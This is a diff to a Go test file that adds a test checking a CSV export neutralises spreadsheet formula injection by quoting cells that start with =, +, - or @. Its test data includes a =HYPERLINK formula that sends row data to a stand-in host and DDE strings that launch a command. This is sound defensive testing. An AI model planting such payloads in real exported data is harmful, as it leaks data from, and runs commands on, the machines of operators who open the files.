@@ -8,6 +8,7 @@ import (
 	"errors"
 	"fmt"
 	"io"
+	"strings"
 	"testing"
 	"time"
 
@@ -303,6 +304,69 @@ func TestExportsListInQueueOrder(t *testing.T) {
 	for i, e := range list {
 		if want := queued[len(queued)-1-i]; e.ID != want {
 			t.Fatalf("position %d: %s, want %s (queued %v)", i, e.ID, want, queued)
+		}
+	}
+}
+
+// TestCSVCellsAreNotFormulas: a CSV export is opened in spreadsheets, and
+// a field an end user typed (an SDK profile update, a wallet name) that
+// starts with =, +, - or @ would run there as a formula (=HYPERLINK to
+// send the row away, DDE to run a command on the operator's machine).
+// Such a cell is written behind a single quote, which spreadsheets read
+// as "text", and import reads the value back unchanged.
+func TestCSVCellsAreNotFormulas(t *testing.T) {
+	f := newFixture(t)
+	ctx := context.Background()
+	values := []string{
+		`=HYPERLINK("https://evil.example/?leak="&A2,"click")`,
+		`+cmd|' /C calc'!A0`,
+		`-2+3+cmd|' /C calc'!A0`,
+		`@SUM(1+1)*cmd|' /C calc'!A0`,
+		`'=1+1`,
+		`''@x`,
+		`'plain quote`,
+		`plain`,
+		"+15551234567", // a number to a spreadsheet: kept as it is
+		"'+15551234567",
+	}
+	var rows []users.NewUser
+	for i, v := range values {
+		rows = append(rows, users.NewUser{Email: fmt.Sprintf("formula%d@example.com", i),
+			Profile: users.ProfilePatch{FirstName: str(v), LastName: str(v), Team: str(v)}})
+	}
+	res, err := f.app.Users().BulkCreate(ctx, f.app.System, f.env, rows, users.BulkOptions{})
+	if err != nil || len(res.Failed) > 0 {
+		t.Fatalf("seed: %v %+v", err, res)
+	}
+	e, err := f.app.Exports().Create(ctx, f.app.System, f.env, exports.Input{Format: exports.FormatCSV, Model: exports.ModelUsers})
+	if err != nil {
+		t.Fatal(err)
+	}
+	f.run(t, 1024)
+	got, err := csv.NewReader(bytes.NewReader(f.download(t, e.ID))).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(got) != len(values)+1 {
+		t.Fatalf("%d rows, want %d", len(got)-1, len(values))
+	}
+	byEmail := map[string]string{}
+	for i, v := range values {
+		byEmail[fmt.Sprintf("formula%d@example.com", i)] = v
+	}
+	for _, row := range got[1:] {
+		for c, cell := range row {
+			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && strings.Trim(cell[1:], "0123456789") != "" {
+				t.Errorf("column %s holds %q: a spreadsheet runs it as a formula", exports.UserColumns[c], cell)
+			}
+		}
+		rec, err := exports.ParseUserRow(exports.UserColumns, row)
+		if err != nil {
+			t.Fatal(err)
+		}
+		want := byEmail[rec.Email]
+		if rec.FirstName != want || rec.LastName != want || rec.Team != want {
+			t.Errorf("read back %q, %q, %q; want %q", rec.FirstName, rec.LastName, rec.Team, want)
 		}
 	}
 }
